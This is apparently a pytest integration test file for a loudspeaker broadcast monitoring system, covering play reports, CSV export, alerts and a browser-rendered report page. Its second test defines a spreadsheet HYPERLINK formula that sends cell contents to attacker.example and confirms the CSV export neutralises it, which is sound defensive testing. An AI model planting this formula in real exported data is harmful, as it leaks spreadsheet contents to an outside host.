"""Proof of play per unit: one device offline, one failing playback, one that plays."""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import pytest
from playwright.sync_api import Browser

from edge_agent.errors import SinkError
from edge_agent.hardware import Hardware, PlayResult
from firmware_sim.hardware import SimAmplifier, SimAudioSink, SimVolume
from protocol.manifest import PlayItem
from tests.support.signin import sign_in_link
from tests.support.tree import add_unit
from tests.support.waiting import poll
from tests.telemetry.conftest import TelemetryRig

ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"

pytestmark = pytest.mark.integration


class FailingSink(SimAudioSink):
    """An audio output whose DAC is dead: every play raises SinkError."""

    def play(self, path: Path, *, item: PlayItem, cancel: threading.Event,
             on_started: Callable[[datetime], None]) -> PlayResult:
        raise SinkError("no audio device (simulated DAC fault)")


def failing_hardware(device_id: str) -> tuple[Hardware, SimAudioSink]:
    sink = FailingSink(device_id)
    return Hardware(sink=sink, amplifier=SimAmplifier(), volume=SimVolume()), sink


def test_report_counts_scheduled_completed_failed_for_a_unit(rig: TelemetryRig,
                                                            browser: Browser) -> None:
    stack = rig.stack
    province = stack.unit("tinh-r", "province")
    commune = stack.unit("xa-r", "commune", province)
    other = stack.unit("xa-r2", "commune", province)
    stack.devices(commune, "loa-r-off")  # registered, but its power is off all along
    good = rig.start_agents(commune, "loa-r-ok", interval_s=0.5)
    bad = rig.start_agents(commune, "loa-r-bad", interval_s=0.5, hardware=failing_hardware)
    rig.start_agents(other, "loa-r-other", interval_s=0.5)  # in the province, not targeted
    bulletin = stack.audio_bulletin(1.0, title="Bản tin phòng chống bão")
    start = datetime.now(UTC).replace(microsecond=0) + timedelta(seconds=6)
    schedule = stack.post("/api/v1/schedules", {
        "bulletin_id": bulletin["id"], "start_at": start.isoformat(),
        "targets": {"unit_ids": [commune["id"]]}})
    assert sorted(schedule["device_ids"]) == ["loa-r-bad", "loa-r-off", "loa-r-ok"]
    assert good["loa-r-ok"].sink.wait_for(lambda r: len(r) == 1 and r[0].completed, 25)
    poll(lambda: {p["device_id"]: p["status"] for p in stack.plays(schedule_id=schedule["id"])},
         lambda s: s == {"loa-r-ok": "completed", "loa-r-bad": "failed", "loa-r-off": "scheduled"},
         20, "completed, failed and still-scheduled play logs")
    assert bad["loa-r-bad"].sink.records == []

    period = {"unit_id": province["id"], "start": (start - timedelta(hours=1)).isoformat(),
              "end": (start + timedelta(hours=1)).isoformat()}
    r = stack.api.get("/api/v1/monitoring/reports/plays", params=period)
    assert r.status_code == 200, r.text
    report = r.json()
    (row,) = report["rows"]
    assert (row["unit_code"], row["bulletin_id"]) == ("xa-r", bulletin["id"])
    total = report["total"]
    for figures in (row, total):
        assert (figures["scheduled"], figures["completed"], figures["failed"],
                figures["interrupted"], figures["pending"]) == (3, 1, 1, 0, 1)
        assert (figures["targeted_devices"], figures["devices_completed"]) == (3, 1)
        assert figures["coverage_pct"] == pytest.approx(33.3, abs=0.05)
        assert figures["minutes"] == pytest.approx(1 / 60, abs=0.005)
    # A period before the broadcast has nothing in it.
    empty = stack.api.get("/api/v1/monitoring/reports/plays", params={
        **period, "end": (start - timedelta(minutes=30)).isoformat()}).json()
    assert empty["rows"] == [] and empty["total"]["scheduled"] == 0

    r = stack.api.get("/api/v1/monitoring/reports/plays", params={**period, "format": "csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [(x["unit_code"], x["scheduled"], x["completed"], x["failed"], x["pending"])
            for x in rows] == [("xa-r", "3", "1", "1", "1"), ("tinh-r", "3", "1", "1", "1")]
    assert rows[0]["bulletin_title"] == "Bản tin phòng chống bão"

    # Plays also became points in InfluxDB (charts); the record stays the SQL play log.
    points = rig.wait_influx(
        "SELECT * FROM play GROUP BY device_id, outcome, priority",
        lambda ps: {(p["device_id"], p["outcome"]) for p in ps} >= {
            ("loa-r-ok", "started"), ("loa-r-ok", "completed"), ("loa-r-bad", "failed")},
        15, "play points")
    failed: dict[str, Any] = next(p for p in points if p["outcome"] == "failed")
    assert "DAC fault" in failed["reason"] and failed["priority"] == "normal"
    # One failed play is "repeated failures" in this rig (threshold 1): an alert opens.
    poll(lambda: stack.api.get("/api/v1/monitoring/alerts",
                               params={"device_id": "loa-r-bad", "state": "open"}).json(),
         lambda b: [a["kind"] for a in b["items"]] == ["playback_failures"], 10,
         "the playback-failures alert")

    # The same report as a page, and its CSV link, in the browser.
    page = browser.new_page()
    day = start.astimezone(ZoneInfo("Asia/Ho_Chi_Minh")).date().isoformat()
    page.goto(sign_in_link(rig.center, next=f"/monitor/reports?unit_id={province['id']}"
                                            f"&start={day}&end={day}"))
    total_row = page.locator("#report tr.total")
    assert [total_row.locator(f"td.{c}").inner_text() for c in
            ("scheduled", "completed", "failed", "pending", "coverage")] == \
        ["3", "1", "1", "1", "33.3 %"]
    assert "Bản tin phòng chống bão" in page.locator("#report").inner_text()
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "monitor-report.png"), full_page=True)
    with page.expect_download() as download:
        page.click("#csv")
    csv_text = Path(download.value.path()).read_text(encoding="utf-8-sig")
    assert csv_text.splitlines()[-1].startswith("tinh-r,")
    page.close()


FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Xem chi tiết")'


def test_report_csv_defuses_spreadsheet_formulas(rig: TelemetryRig) -> None:
    """A unit name or bulletin title a spreadsheet would run comes out as text ('=...), from
    the API's CSV and from the monitoring page's CSV link alike."""
    stack = rig.stack
    province = add_unit(stack.api, "tinh-f", "province", name="+Tỉnh F")
    commune = add_unit(stack.api, "xa-f", "commune", province, name=FORMULA)
    stack.devices(commune, "loa-f-off")  # registered; its plays stay scheduled
    bulletin = stack.audio_bulletin(1.0, title="@Bản tin " + FORMULA)
    start = datetime.now(UTC).replace(microsecond=0) + timedelta(minutes=30)
    schedule = stack.post("/api/v1/schedules", {
        "bulletin_id": bulletin["id"], "start_at": start.isoformat(),
        "targets": {"unit_ids": [commune["id"]]}})
    poll(lambda: stack.plays(schedule_id=schedule["id"]), lambda plays: len(plays) == 1, 20,
         "the scheduled play")
    from_api = stack.api.get("/api/v1/monitoring/reports/plays", params={
        "unit_id": province["id"], "start": (start - timedelta(hours=1)).isoformat(),
        "end": (start + timedelta(hours=1)).isoformat(), "format": "csv"})
    day = start.astimezone(ZoneInfo("Asia/Ho_Chi_Minh")).date().isoformat()
    with httpx.Client(follow_redirects=True, timeout=30) as pages:  # signs in, then the file
        from_page = pages.get(sign_in_link(
            rig.center, next=f"/monitor/reports.csv?unit_id={province['id']}&start={day}"
                             f"&end={day}"))
    for r in (from_api, from_page):
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
        row, total = csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")))
        assert (row["unit_name"], row["bulletin_title"]) == ("'" + FORMULA,
                                                             "'@Bản tin " + FORMULA)
        assert (total["unit_name"], total["scheduled"]) == ("'+Tỉnh F", "1")
